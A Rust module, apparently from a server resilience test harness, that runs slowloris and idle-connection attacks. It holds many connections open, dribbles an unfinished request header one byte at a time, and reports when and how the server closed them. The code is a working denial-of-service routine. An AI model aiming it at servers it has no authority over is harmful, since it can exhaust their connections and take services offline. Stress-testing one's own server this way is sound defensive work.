//! Attacks that hold connections open: slowloris (a request head dribbled a byte at a time,
//! never finished) and idle connections (connected, silent). What the attacker sees is
//! whether it got in, when the server closed each connection, and what it said first.

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::mpsc::Sender;
use std::time::{Duration, Instant};

use super::report::{Saw, seconds_range};

/// How often held connections are looked at.
const TICK: Duration = Duration::from_millis(100);
/// The start of the head slowloris never finishes.
const SLOW_HEAD: &[u8] = b"GET /v1/id HTTP/1.1\r\nHost: abuse\r\nX-Slow: ";

/// One held connection.
struct Held {
    stream: TcpStream,
    opened: Instant,
    /// The first bytes the server sent, if any.
    answer: Vec<u8>,
}

/// What a held connection is now.
enum State {
    Open,
    Closed,
}

impl Held {
    /// Reads what is there without blocking; closed on end of file or an error.
    fn poll(&mut self) -> State {
        let mut buf = [0u8; 512];
        loop {
            match self.stream.read(&mut buf) {
                Ok(0) => return State::Closed,
                Ok(n) => {
                    if self.answer.len() < 64 {
                        self.answer.extend_from_slice(&buf[..n.min(64)]);
                    }
                }
                Err(e) if e.kind() == ErrorKind::WouldBlock => return State::Open,
                Err(e) if e.kind() == ErrorKind::Interrupted => {}
                Err(_) => return State::Closed,
            }
        }
    }
}

/// Opens `count` connections to `addr`; with `dribble`, starts a request head on each and
/// sends one more byte of it every `dribble`. Signals `ready` once all are open, and
/// watches them until `stop`.
pub fn hold(
    addr: SocketAddr,
    count: usize,
    dribble: Option<Duration>,
    ready: &Sender<()>,
    stop: &Arc<AtomicBool>,
) -> Saw {
    let mut held = Vec::with_capacity(count);
    let mut refused = Vec::new();
    for _ in 0..count {
        match TcpStream::connect_timeout(&addr, Duration::from_secs(5)) {
            Ok(stream) => {
                let opened = Instant::now();
                if dribble.is_some() {
                    let _ = (&stream).write_all(SLOW_HEAD);
                }
                if stream.set_nonblocking(true).is_ok() {
                    held.push(Held {
                        stream,
                        opened,
                        answer: Vec::new(),
                    });
                }
            }
            Err(e) => refused.push(e.kind()),
        }
    }
    let _ = ready.send(());
    let mut closed: Vec<(Duration, Vec<u8>)> = Vec::new();
    let mut last_byte = Instant::now();
    while !stop.load(Ordering::Relaxed) {
        let send = dribble.is_some_and(|every| last_byte.elapsed() >= every);
        if send {
            last_byte = Instant::now();
        }
        held.retain_mut(|h| {
            if send {
                // One more byte of a header value that never ends.
                let _ = h.stream.write(b"a");
            }
            match h.poll() {
                State::Open => true,
                State::Closed => {
                    closed.push((h.opened.elapsed(), std::mem::take(&mut h.answer)));
                    false
                }
            }
        });
        std::thread::sleep(TICK);
    }
    let after: Vec<Duration> = closed.iter().map(|(after, _)| *after).collect();
    let mut answers: Vec<(String, usize)> = Vec::new();
    for (_, answer) in &closed {
        let first = status_line(answer);
        match answers.iter_mut().find(|(a, _)| *a == first) {
            Some((_, n)) => *n += 1,
            None => answers.push((first, 1)),
        }
    }
    let answers = answers
        .iter()
        .map(|(a, n)| format!("{n} {a}"))
        .collect::<Vec<_>>()
        .join(", ");
    let mut text = format!("{} of {count} connected", count - refused.len());
    if !refused.is_empty() {
        text.push_str(&format!(" ({} refused)", refused.len()));
    }
    if closed.is_empty() {
        text.push_str("; none closed by the server");
    } else {
        text.push_str(&format!(
            "; {} closed by the server after {} ({answers})",
            closed.len(),
            seconds_range(&after)
        ));
    }
    if !held.is_empty() {
        text.push_str(&format!("; {} still open at the end", held.len()));
    }
    Saw { text }
}

/// The status of an HTTP/1.1 answer (`431`), or what else the connection got.
pub fn status_line(answer: &[u8]) -> String {
    if answer.is_empty() {
        return "closed without an answer".into();
    }
    match answer.strip_prefix(b"HTTP/1.1 ") {
        Some(rest) => format!(
            "HTTP {}",
            String::from_utf8_lossy(&rest[..rest.len().min(3)])
        ),
        None => "a non-HTTP answer".into(),
    }
}
